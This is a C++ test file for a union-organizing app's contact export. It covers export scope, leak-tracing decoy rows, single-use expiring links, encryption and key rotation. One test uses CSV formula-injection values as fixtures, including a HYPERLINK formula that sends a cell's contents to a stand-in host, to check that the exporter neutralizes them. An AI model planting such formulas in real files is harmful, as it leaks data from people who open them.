// SPDX-License-Identifier: AGPL-3.0-or-later
// Exports in the store and the file format, on both databases
// (store/export_repo.h, io/export_csv.h, io/export_decoys.h;
// security-model.md §2.12): the people an export covers (scope), decoys
// unique per export and traceable from a leaked file, formula-safe quoting
// (§4 row 12) with E.164 phones kept as they are, the single-use link and
// its 10-minute expiry (time is a parameter: no sleeping), sealed reasons
// and files, and rotation.
#include "store/export_repo.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <sstream>

#include "io/csv_reader.h"
#include "io/export_csv.h"
#include "io/export_decoys.h"
#include "security/field_cipher.h"
#include "store/campaign_repo.h"
#include "store/ids.h"
#include "store/import_row.h"
#include "store/org_repo.h"
#include "store/person_repo.h"
#include "store_test_base.h"

namespace hotshop::testing {
namespace {

using io::ExportField;
using io::ExportRecord;

constexpr int64_t kT0 = 1'750'000'000'000;  // a fixed "now" for every call

std::vector<std::string> Lines(const std::string& csv) {
  std::vector<std::string> out;
  size_t start = 0;
  for (size_t p = csv.find("\r\n"); p != std::string::npos; p = csv.find("\r\n", start)) {
    out.push_back(csv.substr(start, p - start));
    start = p + 2;
  }
  return out;
}

// Every cell of a CSV file, row by row, as io::CsvReader reads it.
std::vector<std::vector<std::string>> Cells(const std::string& csv) {
  std::istringstream in(csv);
  io::CsvOptions o;
  o.has_header = false;
  auto reader = io::CsvReader::Open(in, o);
  EXPECT_TRUE(reader.ok()) << reader.error().message();
  std::vector<std::vector<std::string>> out;
  io::CsvRecord rec;
  while (reader.ok()) {
    auto more = reader->Next(rec);
    if (!more.ok() || !*more) break;
    std::vector<std::string> row;
    for (size_t i = 0; i < rec.size(); ++i) row.emplace_back(rec[i]);
    out.push_back(std::move(row));
  }
  return out;
}

class ExportStore : public StoreTest {
 protected:
  void SetUp() override {
    StoreTest::SetUp();
    keys_ = std::make_unique<store::KeyService>(security::SecretBytes::Random(32));
    auto made = store::TransactValue<std::string>(*db_, [&](store::Tx& tx) -> Result<std::string> {
      auto o = store::CreateOrg(tx, "local-12", "Local 12", kT0);
      if (!o) return o.error();
      if (Status k = keys_->CreateOrgKeys(tx, o->id, kT0); !k) return k.error();
      for (const char* u : {"0190a000-0000-7000-8000-00000000000a", "0190a000-0000-7000-8000-00000000000b"}) {
        auto ins = tx.Exec("INSERT INTO users (id, email_bidx, email_ct, name_ct, created_at_ms) VALUES ($1, $2, $3, $4, $5)",
                           {std::string(u), std::string(u), store::Bytes{"x"}, store::Bytes{"x"}, kT0});
        if (!ins) return ins.error();
      }
      return o->id;
    });
    ASSERT_TRUE(made.ok()) << made.error().message();
    org_ = *made;
  }

  template <typename T>
  Result<T> InOrg(const std::function<Result<T>(store::Tx&, const store::OrgKeys&)>& fn,
                  store::TxMode mode = store::TxMode::kWrite) {
    return store::TransactValue<T>(*db_, [&](store::Tx& tx) -> Result<T> {
      auto k = keys_->ForOrg(tx, org_);
      if (!k) return k.error();
      return fn(tx, **k);
    }, mode, org_);
  }

  std::string Campaign(const std::string& name) {
    auto c = InOrg<std::string>([&](store::Tx& tx, const store::OrgKeys&) -> Result<std::string> {
      auto made = store::CampaignRepo(tx, scope()).Create(name, kT0);
      if (!made) return made.error();
      return made->id;
    });
    EXPECT_TRUE(c.ok()) << c.error().message();
    return *c;
  }

  std::string Person(const std::string& campaign, const std::string& name, const std::string& phone,
                     const std::string& email = "") {
    auto p = InOrg<std::string>([&](store::Tx& tx, const store::OrgKeys& k) -> Result<std::string> {
      store::PersonFields f;
      f.name = name;
      if (!phone.empty()) f.phone = phone;
      if (!email.empty()) f.email = email;
      f.preferred_language = "es";
      auto made = store::PersonRepo(tx, scope(), k).Create(campaign, f, kT0);
      if (!made) return made.error();
      return made->id;
    });
    EXPECT_TRUE(p.ok()) << p.error().message();
    return *p;
  }

  std::vector<ExportRecord> People(const std::optional<std::vector<std::string>>& campaigns,
                                   const std::vector<ExportField>& fields) {
    auto r = InOrg<std::vector<ExportRecord>>([&](store::Tx& tx, const store::OrgKeys& k) -> Result<std::vector<ExportRecord>> {
      std::vector<ExportRecord> out;
      Status s = store::ExportRepo(tx, scope(), k).ForEachPerson(campaigns, fields, [&](const ExportRecord& rec) {
        out.push_back(rec);
      });
      if (!s) return s.error();
      return out;
    }, store::TxMode::kRead);
    EXPECT_TRUE(r.ok()) << r.error().message();
    return r.ok() ? *r : std::vector<ExportRecord>{};
  }

  security::SecretBytes DecoyKey() {
    auto k = store::TransactValue<std::string>(*db_, [&](store::Tx& tx) -> Result<std::string> {
      auto key = store::ExportDecoyKey(tx, *keys_, org_);
      if (!key) return key.error();
      return std::string(reinterpret_cast<const char*>(key->data()), key->size());
    }, store::TxMode::kRead, org_);
    EXPECT_TRUE(k.ok()) << k.error().message();
    return security::SecretBytes::CopyOf(*k);
  }

  // An export of everyone's name and phone, recorded at `now`.
  std::string MakeExport(int64_t now, const std::string& by = kUserA) {
    std::string id = store::NewId();
    std::vector<ExportField> fields = {ExportField::kName, ExportField::kPhone};
    auto people = People(std::nullopt, fields);
    security::SecretBytes key = DecoyKey();
    size_t n = io::DecoyCount(people.size());
    io::ExportCsvBuilder csv(fields, io::MakeDecoys(key, id, n, {}), io::DecoyPositions(key, id, n, people.size()));
    for (const auto& p : people) csv.AddPerson(p);
    store::NewExport e;
    e.id = id;
    e.created_by = by;
    e.fields = fields;
    e.reason = "Phone bank for the Harbor View vote";
    e.row_count = static_cast<int64_t>(people.size());
    e.decoy_count = static_cast<int64_t>(n);
    e.content = csv.Finish();
    content_[id] = e.content;
    auto ok = InOrg<bool>([&](store::Tx& tx, const store::OrgKeys& k) -> Result<bool> {
      if (Status s = store::ExportRepo(tx, scope(), k).Create(e, now); !s) return s.error();
      return true;
    });
    EXPECT_TRUE(ok.ok()) << ok.error().message();
    return id;
  }

  Result<std::string> Claim(const std::string& id, const std::string& user, int64_t now) {
    return InOrg<std::string>([&](store::Tx& tx, const store::OrgKeys& k) {
      return store::ExportRepo(tx, scope(), k).Claim(id, user, now);
    });
  }

  std::string Scalar(const std::string& sql, const store::Params& params) {
    auto r = store::TransactValue<std::string>(*db_, [&](store::Tx& tx) -> Result<std::string> {
      auto rows = tx.Query(sql, params);
      if (!rows) return rows.error();
      return rows->empty() ? std::string("<none>") : (*rows)[0].Text(0);
    }, store::TxMode::kRead);
    EXPECT_TRUE(r.ok()) << r.error().message();
    return r.ok() ? *r : "";
  }

  store::Scope scope() const { return store::Scope::ForOrg(org_); }

  static constexpr const char* kUserA = "0190a000-0000-7000-8000-00000000000a";
  static constexpr const char* kUserB = "0190a000-0000-7000-8000-00000000000b";
  std::unique_ptr<store::KeyService> keys_;
  std::string org_;
  std::map<std::string, std::string> content_;
};
HOTSHOP_ON_BOTH_DATABASES(ExportStore);

TEST_P(ExportStore, CoversTheOrgOrOnlyTheNamedCampaignsAndDecryptsOnlyTheChosenFields) {
  std::string harbor = Campaign("Harbor View Hotel housekeeping");
  std::string copper = Campaign("Copper Kettle Coffee");
  Person(harbor, "Rosa Quintero", "+12025550101", "rosa@example.org");
  Person(harbor, "Lee Okafor", "+12025550102");
  Person(copper, "Marcus Bell", "+12025550111");
  Person("", "Nadia Outside", "+12025550131");  // in no campaign
  // A second org's person never appears.
  {
    auto other = store::TransactValue<std::string>(*db_, [&](store::Tx& tx) -> Result<std::string> {
      auto o = store::CreateOrg(tx, "other", "Other", kT0);
      if (!o) return o.error();
      if (Status k = keys_->CreateOrgKeys(tx, o->id, kT0); !k) return k.error();
      auto k = keys_->ForOrg(tx, o->id);
      if (!k) return k.error();
      store::PersonFields f;
      f.name = "Olu Otherorg";
      auto p = store::PersonRepo(tx, store::Scope::ForOrg(o->id), **k).Create("", f, kT0);
      if (!p) return p.error();
      return o->id;
    });
    ASSERT_TRUE(other.ok()) << other.error().message();
  }

  auto names = [](const std::vector<ExportRecord>& rs) {
    std::set<std::string> out;
    for (const auto& r : rs) out.insert(r[static_cast<size_t>(ExportField::kName)]);
    return out;
  };
  auto all = People(std::nullopt, {ExportField::kName, ExportField::kCampaign});
  EXPECT_EQ(names(all), (std::set<std::string>{"Rosa Quintero", "Lee Okafor", "Marcus Bell", "Nadia Outside"}));
  auto harbor_only = People(std::vector<std::string>{harbor}, {ExportField::kName});
  EXPECT_EQ(names(harbor_only), (std::set<std::string>{"Rosa Quintero", "Lee Okafor"}));
  auto two = People(std::vector<std::string>{harbor, copper}, {ExportField::kName});
  EXPECT_EQ(names(two), (std::set<std::string>{"Rosa Quintero", "Lee Okafor", "Marcus Bell"}));
  for (const auto& r : all) {
    // Only name and campaign were asked for: the phone was not even read.
    EXPECT_EQ(r[static_cast<size_t>(ExportField::kPhone)], "");
    EXPECT_EQ(r[static_cast<size_t>(ExportField::kEmail)], "");
    if (r[0] == "Marcus Bell") {
      EXPECT_EQ(r[static_cast<size_t>(ExportField::kCampaign)], "Copper Kettle Coffee");
    }
    if (r[0] == "Nadia Outside") {
      EXPECT_EQ(r[static_cast<size_t>(ExportField::kCampaign)], "");
    }
  }
  auto phones = People(std::vector<std::string>{harbor}, {ExportField::kPhone, ExportField::kEmail});
  ASSERT_EQ(phones.size(), 2u);
  std::set<std::string> got;
  for (const auto& r : phones) got.insert(r[static_cast<size_t>(ExportField::kPhone)] + " " + r[static_cast<size_t>(ExportField::kEmail)]);
  EXPECT_EQ(got, (std::set<std::string>{"+12025550101 rosa@example.org", "+12025550102 "}));
}

TEST_P(ExportStore, ImportedDetailsExportAsFirstLastAndExternalId) {
  // An imported person keeps first name, last name and external id in
  // details_ct (store/import_row.h); exports read them from there.
  std::string id = Person("", "Abril Montoya", "+12025550141");
  auto put = InOrg<bool>([&](store::Tx& tx, const store::OrgKeys& k) -> Result<bool> {
    store::Details d;
    d.Set("first_name", "Abril");
    d.Set("last_name", "Montoya");
    d.Set("external_id", "VAN-4471");
    auto n = tx.Exec("UPDATE people SET details_ct = $3 WHERE org_id = $1 AND id = $2",
                     {org_, id, store::Bytes{security::Encrypt(*k.data.Newest(), store::DetailsToJson(d),
                                                               security::FieldAd{"people", "details", id, org_})}});
    if (!n) return n.error();
    return true;
  });
  ASSERT_TRUE(put.ok()) << put.error().message();
  auto rows = People(std::nullopt, {ExportField::kFirstName, ExportField::kLastName, ExportField::kExternalId});
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0][static_cast<size_t>(ExportField::kFirstName)], "Abril");
  EXPECT_EQ(rows[0][static_cast<size_t>(ExportField::kLastName)], "Montoya");
  EXPECT_EQ(rows[0][static_cast<size_t>(ExportField::kExternalId)], "VAN-4471");
}

TEST_P(ExportStore, FormulaCellsAreGuardedAndE164PhonesExportAsTyped) {
  // §4 row 12: stored verbatim, exported with the apostrophe.
  std::string c = Campaign("Harbor");
  Person(c, "=HYPERLINK(\"http://x/?\"&A2)", "+12025550143", "@SUM(1)@example.org");
  Person(c, "@SUM(1)", "+442079460958");
  Person(c, "-2+3, \"the boss\"", "");
  std::vector<ExportField> fields = {ExportField::kName, ExportField::kPhone, ExportField::kEmail};
  auto people = People(std::nullopt, fields);
  io::ExportCsvBuilder csv(fields, {}, {});
  for (const auto& p : people) csv.AddPerson(p);
  std::string file = csv.Finish();
  ASSERT_EQ(file.substr(0, 3), "\xEF\xBB\xBF") << "a byte-order mark for Excel";
  std::vector<std::string> lines = Lines(file.substr(3));
  ASSERT_EQ(lines.size(), 4u) << file;
  EXPECT_EQ(lines[0], "name,phone,email");
  std::set<std::string> body(lines.begin() + 1, lines.end());
  EXPECT_TRUE(body.count("\"'=HYPERLINK(\"\"http://x/?\"\"&A2)\",+12025550143,'@SUM(1)@example.org")) << file;
  EXPECT_TRUE(body.count("'@SUM(1),+442079460958,")) << file;
  EXPECT_TRUE(body.count("\"'-2+3, \"\"the boss\"\"\",,")) << file;
  // And every cell reads back as stored once the guard is taken off.
  auto cells = Cells(file);
  std::set<std::string> names;
  for (size_t i = 1; i < cells.size(); ++i) names.insert(std::string(io::StripFormulaGuard(cells[i][0])));
  EXPECT_EQ(names, (std::set<std::string>{"=HYPERLINK(\"http://x/?\"&A2)", "@SUM(1)", "-2+3, \"the boss\""}));
}

TEST_P(ExportStore, DecoysAreInventedUniquePerExportAndTraceTheLeak) {
  std::string c = Campaign("Harbor");
  for (int i = 0; i < 12; ++i) Person(c, "Worker " + std::to_string(i), "+1202555" + std::to_string(1000 + i));
  std::string a = MakeExport(kT0);
  std::string b = MakeExport(kT0 + 1);
  security::SecretBytes key = DecoyKey();
  auto da = io::MakeDecoys(key, a, 3, {});
  auto db = io::MakeDecoys(key, b, 3, {});
  EXPECT_EQ(da, io::MakeDecoys(key, a, 3, {})) << "a pure function of the secret and the export id";
  std::set<std::string> seen;
  for (const auto* set : {&da, &db}) {
    for (const auto& d : *set) {
      const std::string& phone = d[static_cast<size_t>(ExportField::kPhone)];
      EXPECT_TRUE(phone.size() == 12 && phone.substr(0, 2) == "+1" && phone.substr(5, 5) == "55501") << phone;
      EXPECT_NE(d[static_cast<size_t>(ExportField::kEmail)].find("@example.org"), std::string::npos);
      EXPECT_TRUE(seen.insert(d[static_cast<size_t>(ExportField::kEmail)]).second) << "decoys repeat across exports";
    }
  }
  // Another org's secret gives other decoys for the same id.
  EXPECT_NE(io::MakeDecoys(security::SecretBytes::Random(32), a, 3, {}), da);

  // The file holds the 12 people and the 3 decoys, not at the top or bottom
  // by construction but where DecoyPositions put them.
  auto cells = Cells(content_[a]);
  ASSERT_EQ(cells.size(), 1u + 12 + 3);
  size_t decoys_in_file = 0;
  for (const auto& row : cells) {
    for (const auto& d : da) decoys_in_file += (row[0] == d[0] && row[1] == d[static_cast<size_t>(ExportField::kPhone)]);
  }
  EXPECT_EQ(decoys_in_file, 3u);

  // The trace: every export of the org rebuilt from the table, the leaked
  // file scanned. A leaker who renamed and swapped the columns and
  // reformatted the phones still leaves export a's fingerprints.
  auto list = InOrg<std::vector<store::ExportInfo>>([&](store::Tx& tx, const store::OrgKeys& k) {
    return store::ExportRepo(tx, scope(), k).List(100);
  }, store::TxMode::kRead);
  ASSERT_TRUE(list.ok()) << list.error().message();
  ASSERT_EQ(list->size(), 2u);
  EXPECT_EQ((*list)[0].id, b) << "newest first";
  EXPECT_EQ((*list)[0].reason, "Phone bank for the Harbor View vote");
  io::DecoyIndex index;
  for (const auto& e : *list) index.Add(e.id, e.fields, io::MakeDecoys(key, e.id, static_cast<size_t>(e.decoy_count), {}));
  std::vector<std::string> header = {"Phone number", "Full name"};
  index.Scan(std::vector<std::string_view>(header.begin(), header.end()));
  for (size_t i = 1; i < cells.size(); ++i) {
    std::string phone = cells[i][1];
    std::string pretty = "(" + phone.substr(2, 3) + ") " + phone.substr(5, 3) + "-" + phone.substr(8);
    std::vector<std::string_view> row = {pretty, cells[i][0]};
    index.Scan(row);
  }
  auto hits = index.Results();
  ASSERT_FALSE(hits.empty());
  EXPECT_EQ(hits[0].export_id, a);
  EXPECT_EQ(hits[0].found, 3u);
  EXPECT_EQ(hits[0].decoys, 3u);
  for (const auto& h : hits) {
    if (h.export_id == b) {
      EXPECT_EQ(h.found, 0u);
    }
  }
  // A file without the decoys (or not from hotshop) names no export.
  io::DecoyIndex clean;
  for (const auto& e : *list) clean.Add(e.id, e.fields, io::MakeDecoys(key, e.id, static_cast<size_t>(e.decoy_count), {}));
  std::vector<std::string_view> real = {"Worker 1", "+12025551001"};
  clean.Scan(real);
  EXPECT_TRUE(clean.Results().empty());
}

TEST_P(ExportStore, DecoyCountAndPositions) {
  EXPECT_EQ(io::DecoyCount(0), 3u);
  EXPECT_EQ(io::DecoyCount(1999), 3u);
  EXPECT_EQ(io::DecoyCount(4000), 5u);
  EXPECT_EQ(io::DecoyCount(1'000'000), 10u);
  security::SecretBytes key = security::SecretBytes::Random(32);
  auto pos = io::DecoyPositions(key, "0190a000-0000-7000-8000-0000000000ff", 10, 50);
  ASSERT_EQ(pos.size(), 10u);
  EXPECT_TRUE(std::is_sorted(pos.begin(), pos.end()));
  for (size_t p : pos) EXPECT_LE(p, 50u);
  auto decoys = io::MakeDecoys(key, "0190a000-0000-7000-8000-0000000000ff", 10,
                               std::vector<std::string>{"Harbor", "Copper"});
  std::set<std::string> pairs;
  for (const auto& d : decoys) {
    EXPECT_TRUE(pairs.insert(d[0] + "|" + d[static_cast<size_t>(ExportField::kPhone)]).second);
    const std::string& campaign = d[static_cast<size_t>(ExportField::kCampaign)];
    EXPECT_TRUE(campaign == "Harbor" || campaign == "Copper") << campaign;
    EXPECT_EQ(d[0], d[static_cast<size_t>(ExportField::kFirstName)] + " " + d[static_cast<size_t>(ExportField::kLastName)]);
    EXPECT_EQ(d[static_cast<size_t>(ExportField::kExternalId)].size(), 9u);
  }
}

TEST_P(ExportStore, TheLinkWorksOnceForItsMakerOnly) {
  Person(Campaign("Harbor"), "Rosa Quintero", "+12025550101");
  std::string id = MakeExport(kT0);
  auto other = Claim(id, kUserB, kT0 + 1000);
  ASSERT_FALSE(other.ok());
  EXPECT_EQ(other.error().code(), ErrorCode::kNotFound) << "another user's export does not exist for them";
  auto missing = Claim(store::NewId(), kUserA, kT0 + 1000);
  ASSERT_FALSE(missing.ok());
  EXPECT_EQ(missing.error().code(), ErrorCode::kNotFound);

  auto first = Claim(id, kUserA, kT0 + 1000);
  ASSERT_TRUE(first.ok()) << first.error().message();
  EXPECT_EQ(*first, content_[id]);
  EXPECT_NE(first->find("Rosa Quintero,+12025550101"), std::string::npos);
  auto second = Claim(id, kUserA, kT0 + 2000);
  ASSERT_FALSE(second.ok());
  EXPECT_EQ(second.error().code(), ErrorCode::kConflict);
  EXPECT_EQ(second.error().field(), "gone");
  // The file is gone from the database; the log row stays.
  EXPECT_EQ(Scalar("SELECT count(*) FROM exports WHERE org_id = $1 AND content_ct IS NOT NULL", {org_}), "0");
  EXPECT_EQ(Scalar("SELECT downloaded_at_ms FROM exports WHERE org_id = $1 AND id = $2", {org_, id}),
            std::to_string(kT0 + 1000));
}

TEST_P(ExportStore, TheLinkExpiresTenMinutesAfterTheExport) {
  Person(Campaign("Harbor"), "Rosa Quintero", "+12025550101");
  std::string late = MakeExport(kT0);
  auto expired = Claim(late, kUserA, kT0 + store::kExportLinkValidMs);
  ASSERT_FALSE(expired.ok());
  EXPECT_EQ(expired.error().field(), "gone");
  EXPECT_EQ(Scalar("SELECT count(*) FROM exports WHERE org_id = $1 AND id = $2 AND content_ct IS NOT NULL "
                   "AND downloaded_at_ms IS NULL", {org_, late}), "1")
      << "a refused claim changes nothing";

  std::string in_time = MakeExport(kT0);
  auto ok = Claim(in_time, kUserA, kT0 + store::kExportLinkValidMs - 1);
  EXPECT_TRUE(ok.ok()) << ok.error().message();

  // The purge drops files whose time is up, and only those.
  std::string fresh = MakeExport(kT0 + 5000);
  auto purged = InOrg<int64_t>([&](store::Tx& tx, const store::OrgKeys& k) {
    return store::ExportRepo(tx, scope(), k).PurgeExpired(kT0 + store::kExportLinkValidMs);
  });
  ASSERT_TRUE(purged.ok()) << purged.error().message();
  EXPECT_EQ(*purged, 1) << "the expired one; the downloaded one had none left, the fresh one is in time";
  auto still = Claim(fresh, kUserA, kT0 + store::kExportLinkValidMs);
  EXPECT_TRUE(still.ok());
  auto gone = Claim(late, kUserA, kT0);  // even at an earlier clock: the file is gone
  ASSERT_FALSE(gone.ok());
  EXPECT_EQ(gone.error().field(), "gone");
}

TEST_P(ExportStore, ReasonAndFileAreSealedAndBoundToTheirRow) {
  Person(Campaign("Harbor"), "Rosa Quintero", "+12025550101");
  std::string a = MakeExport(kT0);
  std::string b = MakeExport(kT0);
  // No clear text in the table.
  auto raw = store::TransactValue<std::string>(*db_, [&](store::Tx& tx) -> Result<std::string> {
    auto r = tx.Query("SELECT reason_ct, content_ct, fields FROM exports WHERE org_id = $1", {org_});
    if (!r) return r.error();
    std::string all;
    for (const auto& row : *r) all += row.Blob(0) + row.Blob(1) + row.Text(2);
    return all;
  }, store::TxMode::kRead);
  ASSERT_TRUE(raw.ok());
  EXPECT_EQ(raw->find("Rosa"), std::string::npos);
  EXPECT_EQ(raw->find("Harbor View vote"), std::string::npos);
  EXPECT_NE(raw->find("name,phone"), std::string::npos) << "field names are not secret";
  // b's file pasted into a's row does not open (AD = exports|content|id|org).
  auto pasted = store::TransactValue<bool>(*db_, [&](store::Tx& tx) -> Result<bool> {
    auto n = tx.Exec("UPDATE exports SET content_ct = (SELECT content_ct FROM exports WHERE org_id = $1 AND id = $3) "
                     "WHERE org_id = $1 AND id = $2",
                     {org_, a, b});
    if (!n) return n.error();
    return true;
  });
  ASSERT_TRUE(pasted.ok()) << pasted.error().message();
  auto claim = Claim(a, kUserA, kT0 + 1);
  ASSERT_FALSE(claim.ok());
  EXPECT_EQ(claim.error().code(), ErrorCode::kInternal);
  EXPECT_EQ(Scalar("SELECT downloaded_at_ms FROM exports WHERE org_id = $1 AND id = $2", {org_, a}), "")
      << "a failed download changes nothing";
}

TEST_P(ExportStore, RotationReSealsReasonsAndPendingFiles) {
  Person(Campaign("Harbor"), "Rosa Quintero", "+12025550101");
  std::string id = MakeExport(kT0);
  auto added = store::TransactValue<uint32_t>(*db_, [&](store::Tx& tx) { return keys_->AddDataKey(tx, org_, kT0); },
                                              store::TxMode::kWrite, org_);
  ASSERT_TRUE(added.ok());
  auto changed = InOrg<int64_t>([&](store::Tx& tx, const store::OrgKeys& k) {
    return store::ExportRepo(tx, scope(), k).ReencryptBatch(100);
  });
  ASSERT_TRUE(changed.ok()) << changed.error().message();
  EXPECT_EQ(*changed, 1);
  auto again = InOrg<int64_t>([&](store::Tx& tx, const store::OrgKeys& k) {
    return store::ExportRepo(tx, scope(), k).ReencryptBatch(100);
  });
  EXPECT_EQ(*again, 0) << "idempotent";
  // Retire the old key: the reason and the file still open.
  auto retired = store::TransactValue<bool>(*db_, [&](store::Tx& tx) -> Result<bool> {
    auto n = tx.Exec("UPDATE org_keys SET state = 'retired' WHERE org_id = $1 AND purpose = 'data' AND key_id < $2",
                     {org_, static_cast<int64_t>(*added)});
    if (!n) return n.error();
    return true;
  }, store::TxMode::kWrite, org_);
  ASSERT_TRUE(retired.ok());
  keys_->Forget(org_);
  auto info = InOrg<store::ExportInfo>([&](store::Tx& tx, const store::OrgKeys& k) {
    return store::ExportRepo(tx, scope(), k).Get(id);
  }, store::TxMode::kRead);
  ASSERT_TRUE(info.ok()) << info.error().message();
  EXPECT_EQ(info->reason, "Phone bank for the Harbor View vote");
  auto file = Claim(id, kUserA, kT0 + 1);
  EXPECT_TRUE(file.ok()) << file.error().message();
}

TEST(ExportFields, ParsedInFileOrderAndChecked) {
  std::vector<std::string> asked = {"phone", "name"};
  auto f = io::ParseExportFields(asked);
  ASSERT_TRUE(f.ok());
  EXPECT_EQ(io::ExportFieldsText(*f), "name,phone");
  auto back = io::ExportFieldsFromText("name,phone");
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(*back, *f);
  for (std::vector<std::string> bad : {std::vector<std::string>{}, std::vector<std::string>{"notes"},
                                       std::vector<std::string>{"name", "name"}, std::vector<std::string>{"id"}}) {
    auto r = io::ParseExportFields(bad);
    ASSERT_FALSE(r.ok());
    EXPECT_EQ(r.error().field(), "fields");
  }
  EXPECT_FALSE(io::ExportFieldsFromText("name,ssn").ok());
}

}  // namespace
}  // namespace hotshop::testing
